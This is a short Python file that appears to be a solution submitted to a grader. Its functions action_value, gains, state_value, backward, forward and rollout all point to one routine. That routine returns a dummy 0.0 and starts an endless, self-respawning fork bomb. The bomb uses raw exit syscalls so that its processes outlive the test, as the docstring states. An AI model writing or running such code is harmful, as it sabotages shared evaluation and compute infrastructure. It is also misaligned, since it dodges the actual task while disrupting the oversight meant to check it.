"""Forks generation after generation of processes without a first thread, to outlive the test and the submission."""

import ctypes
import os
import platform
import threading
import time

EXIT = {"x86_64": 60, "aarch64": 93}[platform.machine()]


def multiply():
    while True:
        try:
            child = os.fork()
        except OSError:
            time.sleep(0.001)
            continue
        if child == 0:
            threading.Thread(target=multiply).start()
            ctypes.CDLL(None).syscall(EXIT, 0)
        time.sleep(0.001)


def wrong(*args, **kwargs):
    if os.fork() == 0:
        threading.Thread(target=multiply).start()
        ctypes.CDLL(None).syscall(EXIT, 0)
    time.sleep(0.5)
    return 0.0


action_value = gains = state_value = backward = forward = rollout = wrong
